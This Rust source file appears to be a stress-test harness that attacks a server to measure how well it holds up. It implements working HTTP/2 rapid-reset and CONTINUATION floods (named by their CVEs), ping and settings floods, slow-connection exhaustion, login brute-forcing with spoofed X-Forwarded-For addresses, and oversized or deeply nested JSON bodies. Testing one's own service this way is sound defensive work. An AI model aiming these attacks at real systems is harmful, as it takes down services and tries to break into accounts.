//! The attacks, each as hard as one process can, until standard input ends.

use crate::Outcome;
use crate::target::Line;
use std::io::{self, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::{scope, sleep};
use std::time::{Duration, Instant};

/// An attack.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// How many do it at once.
    threads: usize,
    /// What is counted.
    unit: &'static str,
    /// Whether it gives the server much to reckon.
    pub(crate) heavy: bool,
    act: fn(&Attacker<'_>),
}

/// Nothing for the server to do: what is felt of it is the machine's and the yardstick's fault.
pub(crate) const NONE: &str = "no attack, as much work elsewhere";
/// Nothing for the server to do either: what the system makes of a thread that computes, on
/// the processors on which the server has to answer.
pub(crate) const BESIDE: &str = "no attack, one thread that computes beside the server";

/// All of them.
pub(crate) const ATTACKS: &[Attack] = &[
    Attack { name: NONE, threads: 4, unit: "rounds", heavy: false, act: elsewhere },
    Attack { name: BESIDE, threads: 1, unit: "rounds", heavy: true, act: elsewhere },
    Attack { name: "rapid reset", threads: 2, unit: "streams", heavy: false, act: rapid_reset },
    Attack { name: "settings flood", threads: 2, unit: "frames", heavy: false, act: settings },
    Attack { name: "ping flood", threads: 2, unit: "frames", heavy: false, act: pings },
    Attack { name: "endless headers", threads: 2, unit: "frames", heavy: false, act: endless_headers },
    Attack { name: "slow heads and bodies", threads: 1, unit: "connections", heavy: false, act: slow },
    Attack {
        name: "100 000 tiny requests on a connection",
        threads: 2,
        unit: "requests",
        heavy: false,
        act: tiny,
    },
    Attack { name: "sign-in storm", threads: 100, unit: "tries", heavy: true, act: storm },
    Attack {
        name: "1 000 wrong passwords a second",
        threads: 4,
        unit: "tries",
        heavy: true,
        act: wrong_passwords,
    },
    Attack { name: "deep JSON", threads: 4, unit: "bodies", heavy: true, act: deep },
    Attack { name: "colliding keys", threads: 4, unit: "bodies", heavy: true, act: colliding },
    Attack { name: "200 000 keys", threads: 4, unit: "bodies", heavy: true, act: many_keys },
    Attack { name: "JSON for nobody", threads: 4, unit: "bodies", heavy: true, act: ignored },
];

/// One thread of an attack.
struct Attacker<'a> {
    address: SocketAddr,
    token: &'a str,
    number: usize,
    over: &'a AtomicBool,
    count: &'a AtomicU64,
}

/// Carries out the attack that `words` name, and prints how much of it there was per second.
pub(crate) fn run(mut words: impl Iterator<Item = String>) -> Outcome<bool> {
    let name = words.next().ok_or("no attack")?;
    let address: SocketAddr = words.next().ok_or("no address")?.parse()?;
    let token = words.next().ok_or("no token")?;
    let attack = ATTACKS.iter().find(|attack| attack.name == name).ok_or("no such attack")?;
    let (over, count, begin) = (AtomicBool::new(false), AtomicU64::new(0), Instant::now());
    scope(|scope| {
        for number in 0..attack.threads {
            let attacker = Attacker { address, token: &token, number, over: &over, count: &count };
            scope.spawn(move || {
                while !attacker.is_over() {
                    (attack.act)(&attacker);
                }
            });
        }
        let _ = io::copy(&mut io::stdin(), &mut io::sink());
        over.store(true, Ordering::Relaxed);
        let rate = count.load(Ordering::Relaxed) as f64 / begin.elapsed().as_secs_f64();
        println!("{rate:.0} {} a second", attack.unit);
        // Whatever is still being waited for.
        std::process::exit(0);
    })
}

impl Attacker<'_> {
    fn is_over(&self) -> bool {
        self.over.load(Ordering::Relaxed)
    }

    fn did(&self, count: u64) {
        self.count.fetch_add(count, Ordering::Relaxed);
    }

    /// A connection whose answers are read and forgotten.
    fn connect(&self) -> Option<TcpStream> {
        let socket = TcpStream::connect(self.address).ok()?;
        let mut reader = socket.try_clone().ok()?;
        std::thread::spawn(move || io::copy(&mut reader, &mut io::sink()));
        Some(socket)
    }

    /// Sends an HTTP/2 preface and then what `batch` makes, until the server has enough.
    fn flood(&self, mut batch: impl FnMut() -> (u64, Vec<u8>)) {
        let Some(mut socket) = self.connect() else { return };
        let _ = socket.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        let _ = socket.write_all(&frame(SETTINGS, 0, 0, &[]));
        while !self.is_over() {
            let (count, bytes) = batch();
            if socket.write_all(&bytes).is_err() {
                break;
            }
            self.did(count);
        }
        let _ = socket.shutdown(Shutdown::Both);
    }

    /// Posts `body` over and over.
    fn post(&self, path: &str, body: &str) {
        let Ok(mut line) = Line::to(self.address) else { return };
        let request = format!(
            "POST {path} HTTP/1.1\r\nHost: bench\r\nAuthorization: Bearer {}\r\n\
             Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            self.token,
            body.len()
        );
        while !self.is_over() && line.ask(&request).is_ok() {
            self.did(1);
        }
    }

    /// Opens the sign-in form and sends it for ever, as `name` and from `address` at each try.
    fn sign_in(&self, pause: Duration, name: impl Fn(u64) -> String) {
        let Ok(mut line) = Line::to(self.address) else { return };
        let Ok(page) = line.ask("GET /login HTTP/1.1\r\nHost: bench\r\n\r\n") else { return };
        let between = |text: &str, from: &str, to: char| {
            let (_, rest) = text.split_once(from)?;
            Some(rest.split(to).next().unwrap_or_default().to_owned())
        };
        let cookie = between(&page, "set-cookie: ", ';').unwrap_or_default();
        let form = page.split("action=\"/login\"").nth(1).unwrap_or_default();
        let hidden: String = form
            .split("<input")
            .filter(|input| input.contains("type=\"hidden\""))
            .filter_map(|input| {
                Some(format!("{}={}&", between(input, "name=\"", '"')?, between(input, "value=\"", '"')?))
            })
            .collect();
        for number in 0.. {
            let body = format!("{hidden}name={}&password=hunter2", name(number));
            let request = format!(
                "POST /login HTTP/1.1\r\nHost: bench\r\nOrigin: http://{}\r\nCookie: {cookie}\r\n\
                 X-Forwarded-For: 198.{}.{}.{}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
                 Content-Length: {}\r\n\r\n{body}",
                self.address,
                self.number,
                number / 250 % 250,
                number % 250,
                body.len()
            );
            let Ok(answer) = line.ask(&request) else { return };
            let refused =
                ["401", "429", "503"].iter().any(|status| answer.starts_with(&format!("HTTP/1.1 {status}")));
            assert!(refused, "{answer}");
            if self.is_over() {
                return;
            }
            self.did(1);
            sleep(pause);
        }
    }
}

/// One frame of HTTP/2 (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
/// Frames in one write.
const BATCH: u64 = 100;

/// Work that never comes near the server.
fn elsewhere(attacker: &Attacker<'_>) {
    for round in 0..1_000_000_u64 {
        std::hint::black_box(round);
    }
    attacker.did(1);
}

/// Requests that are taken back as soon as they are made (CVE-2023-44487).
fn rapid_reset(attacker: &Attacker<'_>) {
    // `GET /health`, packed (RFC 7541).
    let get = [&[0x82_u8, 0x86, 0x04, 7][..], b"/health", &[0x01, 1], b"x"].concat();
    let mut stream = 1;
    attacker.flood(move || {
        let mut bytes = Vec::new();
        for _ in 0..BATCH {
            bytes.extend(frame(HEADERS, 0x5, stream, &get));
            bytes.extend(frame(RESET, 0, stream, &[0, 0, 0, 8]));
            stream += 2;
        }
        (BATCH, bytes)
    });
}

fn settings(attacker: &Attacker<'_>) {
    let batch = frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(BATCH as usize);
    attacker.flood(|| (BATCH, batch.clone()));
}

fn pings(attacker: &Attacker<'_>) {
    let batch = frame(PING, 0, 0, &[0; 8]).repeat(BATCH as usize);
    attacker.flood(|| (BATCH, batch.clone()));
}

/// A header that goes on for ever (CVE-2024-27316).
fn endless_headers(attacker: &Attacker<'_>) {
    let entry = [&[0x00_u8, 1][..], b"a", &[100], &[b'b'; 100]].concat();
    let mut first = true;
    attacker.flood(move || {
        let (kind, flags) = if std::mem::take(&mut first) { (HEADERS, 1) } else { (CONTINUATION, 0) };
        (1, frame(kind, flags, 1, &entry))
    });
}

/// Five hundred clients that say a byte now and then.
fn slow(attacker: &Attacker<'_>) {
    let begin = |number: usize| {
        let mut socket = TcpStream::connect(attacker.address).ok()?;
        let head: &[u8] = match number % 2 {
            0 => b"GET /v1/health HTTP/1.1\r\nHost: x\r\nX-Slow: ",
            _ => {
                b"POST /v1/auth/device/start HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
                   Content-Length: 1000000\r\n\r\n{"
            }
        };
        socket.write_all(head).ok()?;
        attacker.did(1);
        Some(socket)
    };
    let mut all: Vec<_> = (0..500).filter_map(begin).collect();
    while !attacker.is_over() {
        for (number, socket) in all.iter_mut().enumerate() {
            if socket.write_all(b" ").is_err()
                && let Some(fresh) = begin(number)
            {
                *socket = fresh;
            }
        }
        sleep(Duration::from_millis(100));
    }
}

fn tiny(attacker: &Attacker<'_>) {
    let Ok(mut socket) = TcpStream::connect(attacker.address) else { return };
    let Ok(mut reader) = socket.try_clone() else { return };
    let reader = std::thread::spawn(move || io::copy(&mut reader, &mut io::sink()));
    let batch = "GET /health HTTP/1.1\r\nHost: x\r\n\r\n".repeat(BATCH as usize);
    for _ in 0..100_000 / BATCH {
        if attacker.is_over() || socket.write_all(batch.as_bytes()).is_err() {
            break;
        }
        attacker.did(BATCH);
    }
    let _ = socket.shutdown(Shutdown::Write);
    // One connection at a time: the next when all is answered.
    let _ = reader.join();
}

/// A hundred at once, each as somebody else every time, so that every try is a hash.
fn storm(attacker: &Attacker<'_>) {
    let who = attacker.number;
    attacker.sign_in(Duration::ZERO, |number| format!("name-{who}-{number}"));
}

/// One account, from everywhere.
fn wrong_passwords(attacker: &Attacker<'_>) {
    attacker.sign_in(Duration::from_millis(3), |_| "admin".to_owned());
}

fn deep(attacker: &Attacker<'_>) {
    attacker.post("/v1/secrets/push", &format!("{{\"secrets\":{}", "[".repeat(7 << 20)));
}

/// As many names as fit.
fn many_keys(attacker: &Attacker<'_>) {
    let names: String = (0..200_000).map(|number| format!("\"K{number:08}\":\"\",")).collect();
    attacker.post("/v1/secrets/push", &push(&names));
}

/// What no type asks for, and has to be read all the same.
fn ignored(attacker: &Attacker<'_>) {
    attacker.post("/v1/secrets/push", &format!("{{\"x\":[{}0]}}", "{\"\\u0041\":[1e5]},".repeat(400_000)));
}

/// Eight megabytes of names, half of them the same one.
fn colliding(attacker: &Attacker<'_>) {
    let names: String = (0..200_000).map(|number| format!("\"K{number:08}\":\"\",\"K\":\"\",")).collect();
    attacker.post("/v1/secrets/push", &push(&names));
}

/// A push of `pairs`.
fn push(pairs: &str) -> String {
    format!(
        "{{\"repoFullName\":\"admin/bench\",\"environment\":\"local\",\"secrets\":{{{pairs}\"Z\":\"\"}}}}"
    )
}
